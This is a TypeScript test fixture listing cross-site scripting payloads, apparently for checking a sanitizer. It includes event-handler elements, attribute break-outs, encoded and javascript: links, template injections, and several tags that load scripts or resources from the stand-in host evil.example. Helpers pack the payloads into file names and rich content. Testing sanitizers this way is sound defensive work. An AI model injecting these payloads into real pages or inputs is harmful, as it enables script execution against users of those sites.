/**
 * Texts that would run if they were ever taken for markup or for an address: elements with handlers, broken attributes,
 * encodings, templates and links. Each tries to open a dialog or to ask a foreign host for something.
 */

const ELEMENTS = [
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/a.png>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a href="javascript:alert(1)"><text>a</text></a>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><set onbegin=alert(1)>',
  '<svg><foreignObject><iframe onload=alert(1)>',
  '<math href="javascript:alert(1)">a</math>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<script src=//evil.example/a.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script/x>alert(1)</script>',
  '<script >alert(1)</script >',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body background=//evil.example/b.png>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=//evil.example></iframe>',
  '<iframe onload=alert(1)>',
  '<frameset onload=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<object data=//evil.example/o>',
  '<embed src="javascript:alert(1)">',
  '<embed src=//evil.example/e>',
  '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<video poster=//evil.example/p.png>',
  '<audio src=x onerror=alert(1)>',
  '<audio src=//evil.example/a.mp3 autoplay>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button autofocus onfocus=alert(1)>',
  '<a autofocus tabindex=1 onfocus=alert(1)>a</a>',
  '<keygen autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<form><button formaction="javascript:alert(1)">a',
  '<isindex action="javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<link rel=prefetch href=//evil.example/a>',
  '<link rel=preload as=image href=//evil.example/a>',
  '<style>@import "//evil.example/a.css"</style>',
  '<style>*{background:url(//evil.example/a)}</style>',
  '<div style="background:url(//evil.example/b)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div onpointerover=alert(1)>a</div>',
  '<div onanimationstart=alert(1) style=animation:x>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=refresh content="0;javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<base href="javascript:/a/">',
  '<table background=//evil.example/t.png>',
  '<td background="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<x contenteditable onblur=alert(1)>a</x>',
  '<dialog open onclose=alert(1)>a</dialog>',
  '<portal src=//evil.example>',
  '<bgsound src=//evil.example/s>',
  '<layer src=//evil.example/l>',
  '<applet code=//evil.example/c>',
];

const BROKEN_ATTRIBUTES = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '` onerror=alert(1)',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
];

const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<img src=x onerror=&#97;lert(1)>',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://x/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[a](javascript:alert(1))',
  '![a](//evil.example/a.png)',
  '<a href=javascript:alert(1)>a</a>',
  'https://x"onmouseover="alert(1)',
  "https://x'onfocus='alert(1)",
];

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BROKEN_ATTRIBUTES, ...ENCODED, ...ADDRESSES, ...TEMPLATES];

export const chunks = <T>(list: readonly T[], size: number): T[][] =>
  Array.from({ length: Math.ceil(list.length / size) }, (_one, index) => list.slice(index * size, (index + 1) * size));

/** Packs all texts that fit into as few texts of at most `max` characters as possible, joined by `between`. */
export function packed(texts: readonly string[], max: number, between = ' '): string[] {
  const packs: string[] = [];
  for (const text of texts.filter(one => one.length <= max)) {
    const longer = `${packs.at(-1)}${between}${text}`;
    if (packs.length > 0 && longer.length <= max) packs[packs.length - 1] = longer;
    else packs.push(text);
  }
  return packs;
}

/** Turns a text into a file name; slashes are removed, since they would make folders. */
export const asFileName = (text: string, extension: string): string => `${text.replaceAll(/[/\\]/g, '')}.${extension}`;

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** Builds rich text that holds these texts as words, as attributes of allowed elements, and as markup. */
export const asContent = (texts: readonly string[]): string =>
  [
    ...texts.map(text => `<p>${escaped(text)}</p>`),
    ...texts
      .map(escaped)
      .map(
        text =>
          `<p style="${text}" onclick="${text}"><a href="${text}">enlace</a>` +
          `<img src="${text}" alt="${text}" onerror="alert(1)"></p>`,
      ),
    ...texts.map(text => `<p>${text}</p>`),
  ].join('');
